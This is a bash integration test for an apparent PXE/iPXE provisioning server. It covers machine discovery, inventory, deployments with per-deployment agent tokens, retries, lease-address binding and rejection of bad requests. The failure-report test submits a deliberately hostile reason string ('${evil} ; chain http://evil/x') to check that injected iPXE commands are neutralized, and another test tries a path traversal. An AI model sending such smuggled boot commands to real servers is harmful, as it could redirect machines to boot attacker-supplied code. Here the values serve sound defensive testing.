#!/usr/bin/env bash
# The boot path's server side, over real sockets: /boot/<mac>.ipxe (curl) and boot/<mac>.ipxe
# (tftp-hpa) through one resolver; the lifecycle a machine walks as it PXE-boots again and
# again (unknown -> discover -> ready/wait -> deploy with a fresh per-deployment token ->
# localboot), resume of a deployment, automatic retries of a failed one (bounded, then the
# failed script), discovery refusals, bad requests, and discovery switched off.
source "$(dirname "$0")/lib.sh"
for c in curl jq tftp sqlite3; do
  command -v "$c" >/dev/null || { fail "missing client $c (deploy/install-deps.sh)"; finish; }
done

cat >"$WORK/kilnd.json" <<JSON
{ "boot": { "server_url": "http://10.99.0.1:8080", "retries": 1, "poll_s": 3, "max_agent_boots": 3,
            "cmdline": "console=ttyS0,115200 quiet", "localboot_efi": "exit" } }
JSON
start_kilnd --config "$WORK/kilnd.json" --tftp-listen 127.0.0.1:0
TOKEN=$(make_token boot-test)
MAC=52:54:00:aa:00:01
HMAC=${MAC//:/-}
script() { curl -s -o "$WORK/script" -w '%{http_code}' "$URL/boot/$1.ipxe"; }
sget() { sed -n "s/.*$1=\([^ ]*\).*/\1/p" "$WORK/script" | head -n1; }

log "an unknown MAC is registered as discovered and gets the discovery agent"
expect_eq "$(script "$HMAC")" 200 "script for an unknown MAC"
grep -q '^#!ipxe' "$WORK/script" && ok || fail "not an iPXE script: $(cat "$WORK/script")"
grep -q 'kiln.mode=discover' "$WORK/script" && ok || fail "discovery script: $(cat "$WORK/script")"
grep -q "^kernel http://10.99.0.1:8080/files/kiln/vmlinuz initrd=initrd.img console=ttyS0,115200 quiet " \
  "$WORK/script" && ok || fail "kernel line: $(grep ^kernel "$WORK/script")"
grep -q "chain --replace --autofree http://10.99.0.1:8080/boot/$HMAC.ipxe" "$WORK/script" &&
  ok || fail "retry chain: $(cat "$WORK/script")"
api GET "/api/v1/machines?state=discovered"
expect_eq "$(jqb '.items | length'):$(jqb '.items[0].macs[0]')" "1:$MAC" "discovered machine listed"
ID=$(jqb '.items[0].id')
# every MAC spelling iPXE may send names the same machine; nothing new is registered
for form in "$MAC" 525400AA0001 "52-54-00-AA-00-01"; do
  expect_eq "$(script "$form")" 200 "script for $form"
done
api GET "/api/v1/machines"
expect_eq "$(jqb '.items | length')" 1 "one machine after four boots"

log "TFTP serves the same script through the shared resolver"
(cd "$WORK" && timeout 10 tftp -m octet 127.0.0.1 "$TFTP_PORT" -c get "boot/$HMAC.ipxe" tftp.ipxe)
cmp -s "$WORK/tftp.ipxe" "$WORK/script" && ok || fail "TFTP script differs: $(cat "$WORK/tftp.ipxe")"

log "the inventory makes it ready; a ready machine waits (polls)"
TOKEN='' api POST /api/v1/agent/inventory '{"mac":"52-54-00-aa-00-01","inventory":{"cpu":{"threads":2},"disks":[{"name":"vda"}],"nics":[{"mac":"52:54:00:aa:00:01"},{"mac":"52:54:00:AA:01:01"},{"mac":"junk"}]}}'
expect_status 200 "inventory from the discovery agent (no token)"
expect_eq "$(jqb .state):$(jqb .inventory.cpu.threads)" "ready:2" "machine after inventory"
expect_eq "$(jqb '.macs | join(",")')" "52:54:00:aa:00:01,52:54:00:aa:01:01" "its second NIC joins it"
TOKEN='' api POST /api/v1/agent/inventory '{"mac":"52:54:00:aa:00:99","inventory":{}}'
expect_status 404 "inventory for a MAC that never booted"
TOKEN='' api POST /api/v1/agent/inventory '{"mac":"nonsense","inventory":{}}'
expect_status 422 "inventory with a bad MAC"
TOKEN='' api POST /api/v1/agent/inventory '{"mac":"52:54:00:aa:00:01","inventory":[1]}'
expect_status 400 "inventory that is not an object"
script "$HMAC" >/dev/null
grep -q '^sleep 3$' "$WORK/script" && grep -q 'is ready: waiting' "$WORK/script" && ok ||
  fail "wait script: $(cat "$WORK/script")"

log "an assignment: the next boot gets the agent with a per-deployment token"
echo v1 >"$WORK/v1.img"
api POST /api/v1/images/demo/versions/1 "{\"format\":\"raw\",\"source_url\":\"http://10.99.0.1/demo.raw\",\"sha256\":\"$(printf %064d 1)\",\"size_bytes\":4096}"
expect_status 201 "register demo:1"
api PUT "/api/v1/machines/$ID/assignment" '{"image":"demo","version":"1"}'
expect_status 201 "assign demo:1"
DEP=$(jqb .id)
script "$HMAC" >/dev/null
grep -q 'kiln.mode=deploy' "$WORK/script" && ok || fail "deploy script: $(cat "$WORK/script")"
T1=$(sget kiln.token)
expect_eq "$(sget kiln.disk):$(sget kiln.after)" "largest:reboot" "disk hint and after"
[[ $T1 == kilnagent_* ]] && ok || fail "no agent token in the deploy script"
TOKEN='' api POST /api/v1/agent/inventory '{"mac":"52:54:00:aa:00:01","inventory":{"cpu":{"threads":99}}}'
expect_status 409 "inventory once deploying"
TOKEN=$T1 api GET /api/v1/agent/deployment
expect_eq "$STATUS:$(jqb .id)" "200:$DEP" "the script's token authenticates the agent"

log "booting again mid-deployment resumes it with a new token; the old one is dead"
TOKEN=$T1 api POST /api/v1/agent/progress '{"stage":"writing","bytes_done":1024,"bytes_total":4096}'
expect_status 200 "progress with the first token"
script "$HMAC" >/dev/null
T2=$(sget kiln.token)
[[ -n $T2 && $T2 != "$T1" ]] && ok || fail "no fresh token on the second boot"
grep -q "deployment $DEP:" "$WORK/script" && ok || fail "resumed a different deployment"
TOKEN=$T1 api GET /api/v1/agent/deployment
expect_status 401 "the replaced token"
TOKEN=$T2 api POST /api/v1/agent/result '{"status":"failed","reason":"chunk 3: sha256 mismatch ${evil} ; chain http://evil/x"}'
expect_status 200 "failure report"

log "a failed deployment is retried once (boot.retries=1), then the machine waits for an operator"
script "$HMAC" >/dev/null
grep -q 'kiln.mode=deploy' "$WORK/script" && ok || fail "retry script: $(cat "$WORK/script")"
T3=$(sget kiln.token)
api GET "/api/v1/machines/$ID/deployments"
expect_eq "$(jqb '.items | length // length'):$(jqb '(.items // .)[0].requested_by')" "2:kilnd:retry" \
  "the retry deployment"
TOKEN=$T3 api POST /api/v1/agent/result '{"status":"failed","reason":"chunk 3: sha256 mismatch ${evil} ; chain http://evil/x"}'
expect_status 200 "second failure"
script "$HMAC" >/dev/null
grep -q 'failed: deployment .* failed: chunk 3: sha256 mismatch __evil_ _ chain http://evil/x' "$WORK/script" && ok ||
  fail "failed script (reason neutralized): $(cat "$WORK/script")"
grep '^echo' "$WORK/script" | grep -q '[;$|&#]' && fail "iPXE syntax reached an echo line: $(cat "$WORK/script")" || ok
grep -q 'kiln.token' "$WORK/script" && fail "failed script holds a token" || ok
api GET "/api/v1/machines/$ID/deployments"
expect_eq "$(jqb '(.items // .) | length')" 2 "no third attempt"

log "an agent that boots again and again without a result: the deployment is failed, then retried"
api PUT "/api/v1/machines/$ID/assignment" '{"image":"demo","version":"1"}'
expect_status 201 "reassign"
LOOP_DEP=$(jqb .id)
for _ in 1 2 3; do script "$HMAC" >/dev/null; done  # boot.max_agent_boots = 3 in this test
grep -q "deployment $LOOP_DEP:" "$WORK/script" && ok || fail "boot 3 should still deploy $LOOP_DEP"
script "$HMAC" >/dev/null                           # the 4th boot: failed, and retried
api GET "/api/v1/deployments/$LOOP_DEP"
expect_eq "$(jqb .status):$(jqb .status_reason)" \
  "failed:the agent booted 3 times without finishing this deployment" "abandoned deployment"
grep -q 'kiln.mode=deploy' "$WORK/script" && ! grep -q "deployment $LOOP_DEP:" "$WORK/script" && ok ||
  fail "the 4th boot should start the retry deployment: $(cat "$WORK/script")"
RETRY_TOKEN=$(sget kiln.token)
TOKEN=$RETRY_TOKEN api POST /api/v1/agent/result '{"status":"failed","reason":"disk gone"}'
expect_status 200 "the retry fails too"

log "an operator reassigns; success makes the next boot local"
api PUT "/api/v1/machines/$ID/assignment" '{"image":"demo","version":"1"}'
expect_status 201 "reassign after failures"
script "$HMAC" >/dev/null
T4=$(sget kiln.token)
TOKEN=$T4 api POST /api/v1/agent/result '{"status":"succeeded"}'
expect_status 200 "success report"
TOKEN=$T4 api GET /api/v1/agent/deployment
expect_status 401 "the token died with its deployment"
script "$HMAC" >/dev/null
grep -q 'sanboot --no-describe --drive 0x80' "$WORK/script" && grep -q 'deployed with demo:1' "$WORK/script" &&
  ok || fail "localboot script: $(cat "$WORK/script")"
grep -q '^:efi$' "$WORK/script" && grep -A1 '^:efi$' "$WORK/script" | grep -q '^exit 1' && ok ||
  fail "UEFI local boot: $(cat "$WORK/script")"

log "a MAC leased by kilnd's DHCP gets its script only at its leased address"
DB=$WORK/var/kiln.db
exp=$(($(date +%s%3N) + 600000))
sqlite3 "$DB" "INSERT INTO dhcp_leases VALUES ('10.99.0.150', '$MAC', '$MAC', '', 'bound', $exp, $exp)"
expect_eq "$(script "$HMAC")" 404 "script asked from another address than the lease"
grep -q 'event=boot.script_refused mac=52:54:00:aa:00:01 peer=127.0.0.1' "$WORK/kilnd.0.log" && ok ||
  fail "no boot.script_refused log line"
sqlite3 "$DB" "UPDATE dhcp_leases SET ip = '127.0.0.1' WHERE mac = '$MAC'"
expect_eq "$(script "$HMAC")" 200 "script asked from the leased address"
sqlite3 "$DB" "UPDATE dhcp_leases SET ip = '10.99.0.150', expires_at = 1 WHERE mac = '$MAC'"
expect_eq "$(script "$HMAC")" 200 "an expired lease binds nothing"

log "bad requests"
expect_eq "$(script not-a-mac)" 404 "not a MAC"
expect_eq "$(curl -s -o /dev/null -w '%{http_code}' "$URL/boot/$HMAC.txt")" 404 "not .ipxe"
expect_eq "$(curl -s -o /dev/null -w '%{http_code}' "$URL/boot/../files/x")" 404 "traversal"
api GET /api/v1/machines
expect_eq "$(jqb '.items | length')" 1 "bad requests registered nothing"
stop_kilnd

log "a dual-stack listener sees the leased IPv4 client as ::ffff:127.0.0.1: still its address"
sqlite3 "$DB" "UPDATE dhcp_leases SET ip = '127.0.0.1', expires_at = $exp WHERE mac = '$MAC'"
KILND_LISTEN='[::]:0' start_kilnd --config "$WORK/kilnd.json"
code=$(curl -s -o /dev/null -w '%{http_code}' "http://127.0.0.1:${URL##*:}/boot/$HMAC.ipxe")
expect_eq "$code" 200 "script over a dual-stack listener from the leased address"
sqlite3 "$DB" "UPDATE dhcp_leases SET ip = '10.99.0.150' WHERE mac = '$MAC'"
code=$(curl -s -o /dev/null -w '%{http_code}' "http://127.0.0.1:${URL##*:}/boot/$HMAC.ipxe")
expect_eq "$code" 404 "script over a dual-stack listener from another address"
stop_kilnd
sqlite3 "$DB" "UPDATE dhcp_leases SET expires_at = 1 WHERE mac = '$MAC'"

log "discovery off: an unknown MAC gets nothing and is not registered"
cat >"$WORK/off.json" <<JSON
{ "boot": { "server_url": "http://10.99.0.1:8080", "discover_unknown": false } }
JSON
start_kilnd --config "$WORK/off.json"
expect_eq "$(script 52-54-00-aa-00-02)" 404 "unknown MAC with discovery off"
api GET /api/v1/machines
expect_eq "$(jqb '.items | length')" 1 "nothing registered"
expect_eq "$(script "$HMAC")" 200 "a known machine still boots"
stop_kilnd
finish
